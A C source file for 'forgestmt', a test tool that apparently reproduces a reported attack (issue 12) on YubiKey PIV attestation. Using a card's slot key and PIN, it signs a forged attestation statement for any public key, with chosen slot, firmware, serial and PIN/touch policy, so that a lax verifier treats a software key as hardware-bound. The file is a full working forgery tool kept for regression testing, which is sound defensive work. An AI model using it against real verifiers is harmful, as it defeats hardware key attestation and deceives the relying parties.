/*
 * forgestmt: the attacker of issue 12, as a test tool. With nothing but a
 * card's slot key and its PIN, sign a "slot attestation statement" for any
 * public key, claiming any slot, PIN/touch policy, firmware and serial:
 *
 *   forgestmt --stmt STMT.pem --pubkey SOFT.pub.pem --out FORGED.pem
 *       [--slot 9a] [--pin-env NAME] [--claim-slot 9c]
 *       [--claim-firmware 5.7.4] [--claim-serial N] [--claim-policy P:T]
 *
 * STMT is the genuine statement the card gave for the key in --slot; the
 * forgery names STMT's subject as its issuer and is signed with that key
 * (an ordinary PIV signature, GENERAL AUTHENTICATE), so it chains to STMT
 * exactly as STMT chains to the F9 certificate. A verifier that accepts
 * STMT in the F9 position (it validates as a leaf under an F9 marked
 * CA:TRUE, pathlen 0) then believes the forgery. The card is found over
 * PC/SC through $CS_READER, as the CLI finds it.
 *
 * Exit 0 with the forgery written (PEM); 1 on any failure (message on
 * stderr). Test infrastructure only: never installed.
 */
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/bio.h>
#include <openssl/bn.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/rand.h>
#include <openssl/x509.h>
#include <openssl/x509v3.h>

#include "cardsmith/cardsmith.h"

#include "banned.h"

#define YK_ARC "1.3.6.1.4.1.41482.3."

struct opts {
	const char *stmt, *pubkey, *out, *pin_env;
	int slot, claim_slot;
	unsigned int fw[3];
	unsigned long serial;
	unsigned int pin_policy, touch_policy;
};

static int
die(const char *what)
{
	fprintf(stderr, "forgestmt: %s\n", what);
	ERR_print_errors_fp(stderr);
	return 1;
}

static X509 *
read_cert(const char *path)
{
	BIO *b = BIO_new_file(path, "r");
	X509 *x = b != NULL ? PEM_read_bio_X509(b, NULL, NULL, NULL) : NULL;

	BIO_free(b);
	return x;
}

static EVP_PKEY *
read_pub(const char *path)
{
	BIO *b = BIO_new_file(path, "r");
	EVP_PKEY *k =
	    b != NULL ? PEM_read_bio_PUBKEY(b, NULL, NULL, NULL) : NULL;

	BIO_free(b);
	return k;
}

static int
add_raw_ext(X509 *x, const char *oid, const unsigned char *v, int n)
{
	ASN1_OBJECT *o = OBJ_txt2obj(oid, 1);
	ASN1_OCTET_STRING *os = ASN1_OCTET_STRING_new();
	X509_EXTENSION *e = NULL;
	int ok = o != NULL && os != NULL && ASN1_OCTET_STRING_set(os, v, n) &&
	    (e = X509_EXTENSION_create_by_OBJ(NULL, o, 0, os)) != NULL &&
	    X509_add_ext(x, e, -1);

	X509_EXTENSION_free(e);
	ASN1_OCTET_STRING_free(os);
	ASN1_OBJECT_free(o);
	return ok;
}

/* The Yubico extensions a genuine statement carries, with claimed values. */
static int
add_claims(X509 *x, const struct opts *o)
{
	unsigned char fw[3], pol[2], ff = 0x03, *ser = NULL;
	ASN1_INTEGER *ai = ASN1_INTEGER_new();
	int n, ok;

	fw[0] = (unsigned char)o->fw[0];
	fw[1] = (unsigned char)o->fw[1];
	fw[2] = (unsigned char)o->fw[2];
	pol[0] = (unsigned char)o->pin_policy;
	pol[1] = (unsigned char)o->touch_policy;
	ok = ai != NULL && ASN1_INTEGER_set_uint64(ai, o->serial) &&
	    (n = i2d_ASN1_INTEGER(ai, &ser)) > 0 &&
	    add_raw_ext(x, YK_ARC "3", fw, 3) &&
	    add_raw_ext(x, YK_ARC "7", ser, n) &&
	    add_raw_ext(x, YK_ARC "8", pol, 2) &&
	    add_raw_ext(x, YK_ARC "9", &ff, 1);
	OPENSSL_free(ser);
	ASN1_INTEGER_free(ai);
	return ok;
}

/*
 * The forgery's TBS, with the algorithm fields of the card key's type set
 * by a throwaway signature (replaced by the card's right after).
 */
static X509 *
build(const struct opts *o, X509 *stmt, EVP_PKEY *soft, const char **md)
{
	EVP_PKEY *k = X509_get0_pubkey(stmt), *tmp = NULL;
	X509 *x = X509_new();
	X509_NAME *subj = X509_NAME_new();
	BIGNUM *bn = BN_new();
	char cn[64];
	int ok;

	*md = EVP_PKEY_get_bits(k) > 256 && EVP_PKEY_is_a(k, "EC") ? "sha384"
	                                                           : "sha256";
	snprintf(cn, sizeof(cn), "YubiKey PIV Attestation %02x",
	    (unsigned int)o->claim_slot);
	if (EVP_PKEY_is_a(k, "EC"))
		tmp = EVP_PKEY_Q_keygen(NULL, NULL, "EC",
		    EVP_PKEY_get_bits(k) > 256 ? "P-384" : "P-256");
	else
		tmp = EVP_PKEY_Q_keygen(NULL, NULL, "RSA", (size_t)2048);
	ok = x != NULL && subj != NULL && bn != NULL && tmp != NULL &&
	    X509_set_version(x, 2) && BN_rand(bn, 120, 0, 0) &&
	    BN_to_ASN1_INTEGER(bn, X509_get_serialNumber(x)) != NULL &&
	    X509_NAME_add_entry_by_txt(subj, "CN", MBSTRING_ASC,
	        (const unsigned char *)cn, -1, -1, 0) &&
	    X509_set_subject_name(x, subj) &&
	    X509_set_issuer_name(x, X509_get_subject_name(stmt)) &&
	    X509_set1_notBefore(x, X509_get0_notBefore(stmt)) &&
	    X509_set1_notAfter(x, X509_get0_notAfter(stmt)) &&
	    X509_set_pubkey(x, soft) && add_claims(x, o) &&
	    X509_sign(x, tmp, EVP_get_digestbyname(*md)) > 0;
	EVP_PKEY_free(tmp);
	X509_NAME_free(subj);
	BN_free(bn);
	if (!ok) {
		X509_free(x);
		return NULL;
	}
	return x;
}

/* Sign x's TBS with the card key in o->slot and put the signature in. */
static int
card_sign(struct cs_ctx *ctx, struct cs_card *card, const struct opts *o,
    X509 *x, const char *md)
{
	unsigned char *tbs = NULL, dig[EVP_MAX_MD_SIZE];
	unsigned int dlen = 0;
	const ASN1_BIT_STRING *sig0;
	ASN1_BIT_STRING *sig;
	uint8_t *s = NULL;
	size_t slen = 0;
	int n, ok = 0;

	if ((n = i2d_re_X509_tbs(x, &tbs)) <= 0 ||
	    !EVP_Digest(tbs, (size_t)n, dig, &dlen, EVP_get_digestbyname(md),
	        NULL))
		goto out;
	if (cs_piv_sign(card, (uint8_t)o->slot, 0, md, dig, dlen, &s, &slen) !=
	    CS_OK) {
		fprintf(stderr, "forgestmt: card: %s\n", cs_ctx_errmsg(ctx));
		goto out;
	}
	X509_get0_signature(&sig0, NULL, x);
	sig = (ASN1_BIT_STRING *)sig0;
	if (!ASN1_BIT_STRING_set(sig, s, (int)slen))
		goto out;
	sig->flags &= ~(ASN1_STRING_FLAG_BITS_LEFT | 0x07);
	sig->flags |= ASN1_STRING_FLAG_BITS_LEFT;
	ok = 1;
out:
	OPENSSL_free(tbs);
	cs_free(s);
	return ok;
}

static int
parse(int argc, char **argv, struct opts *o)
{
	static const struct option lo[] = {
		{ "stmt", required_argument, NULL, 's' },
		{ "pubkey", required_argument, NULL, 'k' },
		{ "out", required_argument, NULL, 'o' },
		{ "slot", required_argument, NULL, 'S' },
		{ "pin-env", required_argument, NULL, 'p' },
		{ "claim-slot", required_argument, NULL, 'c' },
		{ "claim-firmware", required_argument, NULL, 'f' },
		{ "claim-serial", required_argument, NULL, 'n' },
		{ "claim-policy", required_argument, NULL, 'P' },
		{ NULL, 0, NULL, 0 },
	};
	int c;

	memset(o, 0, sizeof(*o));
	o->slot = o->claim_slot = 0x9a;
	o->fw[0] = 5, o->fw[1] = 7, o->fw[2] = 4;
	o->serial = 99999999;
	o->pin_policy = 3, o->touch_policy = 2;
	o->pin_env = "PIN";
	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		switch (c) {
		case 's':
			o->stmt = optarg;
			break;
		case 'k':
			o->pubkey = optarg;
			break;
		case 'o':
			o->out = optarg;
			break;
		case 'p':
			o->pin_env = optarg;
			break;
		case 'S':
			o->slot = cs_piv_slot_parse(optarg);
			break;
		case 'c':
			o->claim_slot = cs_piv_slot_parse(optarg);
			break;
		case 'f':
			if (sscanf(optarg, "%u.%u.%u", &o->fw[0], &o->fw[1],
			        &o->fw[2]) != 3)
				return 0;
			break;
		case 'n':
			o->serial = strtoul(optarg, NULL, 10);
			break;
		case 'P':
			if (sscanf(optarg, "%u:%u", &o->pin_policy,
			        &o->touch_policy) != 2)
				return 0;
			break;
		default:
			return 0;
		}
	}
	return o->stmt != NULL && o->pubkey != NULL && o->out != NULL &&
	    o->slot > 0 && o->claim_slot > 0 && optind == argc;
}

int
main(int argc, char **argv)
{
	struct opts o;
	struct cs_ctx *ctx = NULL;
	struct cs_card *card = NULL;
	X509 *stmt = NULL, *x = NULL;
	EVP_PKEY *soft = NULL;
	BIO *b = NULL;
	const char *pin, *md = "sha256";
	int rc = 1;

	if (!parse(argc, argv, &o))
		return die("usage: forgestmt --stmt F --pubkey F --out F "
		           "[--slot S] [--pin-env N] [--claim-slot S] "
		           "[--claim-firmware X.Y.Z] [--claim-serial N] "
		           "[--claim-policy P:T]");
	if ((pin = getenv(o.pin_env)) == NULL)
		return die("PIN variable not set");
	if ((stmt = read_cert(o.stmt)) == NULL ||
	    (soft = read_pub(o.pubkey)) == NULL) {
		rc = die("cannot read --stmt or --pubkey");
		goto out;
	}
	if ((x = build(&o, stmt, soft, &md)) == NULL) {
		rc = die("cannot build the forged statement");
		goto out;
	}
	if (cs_ctx_new(&ctx) != CS_OK ||
	    cs_card_find(ctx, getenv("CS_READER"), 0, 0, &card) != CS_OK ||
	    cs_piv_verify_pin(card, pin, strlen(pin), NULL) != CS_OK) {
		fprintf(stderr, "forgestmt: %s\n",
		    ctx != NULL ? cs_ctx_errmsg(ctx) : "no context");
		goto out;
	}
	if (!card_sign(ctx, card, &o, x, md)) {
		rc = die("signing on the card failed");
		goto out;
	}
	if (X509_verify(x, X509_get0_pubkey(stmt)) != 1) {
		rc = die("the card's signature does not verify with the "
		         "statement's key (wrong slot?)");
		goto out;
	}
	if ((b = BIO_new_file(o.out, "w")) == NULL ||
	    !PEM_write_bio_X509(b, x)) {
		rc = die("cannot write --out");
		goto out;
	}
	rc = 0;
out:
	BIO_free(b);
	X509_free(x);
	X509_free(stmt);
	EVP_PKEY_free(soft);
	cs_card_close(card);
	cs_ctx_free(ctx);
	return rc;
}
